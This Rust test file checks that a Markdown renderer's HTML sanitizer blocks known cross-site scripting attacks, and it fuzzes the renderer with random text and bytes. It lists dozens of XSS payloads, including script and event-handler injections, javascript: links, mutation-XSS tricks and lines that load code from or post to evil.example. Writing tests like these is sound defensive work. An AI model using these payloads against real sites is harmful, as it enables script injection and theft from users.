//! What is known to have broken other sites, and whatever else can be written.

use proptest::prelude::*;

use super::{english, markup::check};

const ATTACKS: &[&str] = &[
    // Scripts and handlers
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\"\nonerror\n=\nalert(1)>",
    "<body onload=alert(1)>",
    "<div style=\"background:url(javascript:alert(1))\" onmouseover=\"alert(1)\">x</div>",
    "<details open ontoggle=alert(1)>",
    "<a href=\"https://a.example\" onclick=\"alert(1)\">x</a>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    // Elements that bring something in
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<embed src=\"//evil.example/x.swf\">",
    "<form action=\"//evil.example\"><button>send</button></form>",
    "<base href=\"//evil.example/\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<style>@import '//evil.example/x.css';</style>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    // Drawings and formulas, and markup that changes when it is read twice
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<p id=\"</p><script>alert(1)</script>\">",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
    "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
    // Links of Markdown
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](https:\\\\evil.example)",
    "[x](https://a.example/\"onmouseover=alert(1) x=\")",
    "[x](<https://a.example/\"><script>alert(1)</script>>)",
    "[x](https://a.example \"t\\\" onmouseover=alert(1)\")",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x\"onerror=alert(1)](https://a.example/x.png)",
    "[![x](x)](javascript:alert(1))",
    "[a](https://a.example/&quot;&gt;&lt;script&gt;)",
    // Entities and hidden characters
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\u{202e}txt.exe\u{202c} and &#x202e;more",
    "\u{2067}isolated &#8296;too",
    "nul \0 &#0; &#x1b;",
    // In the extensions, in code, in notes at the foot, in tables
    "[[<script>]] [[IR\"onload=x]] [[note:\"><script>]] [@\"><script>]",
    "{{tie \"><script> copublications}} {{tie IR-US \"onload=x}}",
    "[[note:another]] [**[[IR]]**](https://a.example)",
    "`<script>alert(1)</script>`",
    "```\"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
    "x[^\"><script>]\n\n[^\"><script>]: <img src=x onerror=alert(1)>",
    "|<script>|\"|\n|---|---:|\n|<img src=x onerror=alert(1)>|`|`|",
    "## <svg onload=alert(1)>\n\n### [x](javascript:alert(1))",
    "# \" onmouseover=\"alert(1)",
];

#[test]
fn no_known_attack_gets_through() {
    for attack in ATTACKS {
        let rendered = english(attack);
        check(&rendered.html);
        let within = format!("- > **{attack}** [[IR]]\n\n1. {attack}\n\n[^1]\n\n[^1]: {attack}\n");
        check(&english(&within).html);
        for heading in rendered.contents {
            assert!(heading.id.chars().all(|c| c.is_ascii_alphanumeric() || c == '-'), "{attack}");
        }
    }
}

#[test]
fn what_is_cleaned_stays_as_it_is_when_read_again() {
    for attack in ATTACKS {
        let html = english(attack).html;
        assert_eq!(super::super::clean::clean(&html), html, "{attack}");
    }
}

#[test]
fn raw_html_is_shown_as_it_was_written() {
    let html = english("a <b>bold</b> word\n\n<div>block</div>").html;
    assert!(html.contains("&lt;b&gt;bold&lt;/b&gt;"), "{html}");
    assert!(html.contains("&lt;div&gt;block&lt;/div&gt;"), "{html}");
}

#[test]
fn what_is_nested_without_end_ends() {
    for deep in ["> ", "- ", "*a ", "[", "![", "1. ", "**_", "(", "<b>"] {
        check(&english(&deep.repeat(3_000)).html);
        check(&english(&format!("{}x", deep.repeat(500))).html);
    }
    check(&english(&"[a](".repeat(2_000)).html);
    check(&english(&"[^1]: [^1] ".repeat(500)).html);
}

proptest! {
    #[test]
    fn whatever_is_written_is_safe(
        text in r#"(<|>|"|'|&|;|#|/|\[|\]|\(|\)|\{|\}|!|\*|_|`|\||-|\n|\n\n| |script|onerror=|style=|img src=x|svg|math|href=|javascript:|data:|https://a\.example|\[\^1\]|\[\^1\]: |\[\[IR\]\]|\[\[IR-US\]\]|\[@one\]|\{\{tie IR-US missions\}\}|[a-z]|[\x00-\x7f]|\u{202e}|آ){0,60}"#
    ) {
        check(&english(&text).html);
    }

    #[test]
    fn whatever_bytes_come_are_safe(bytes in proptest::collection::vec(any::<u8>(), 0..400)) {
        check(&english(&String::from_utf8_lossy(&bytes)).html);
    }
}
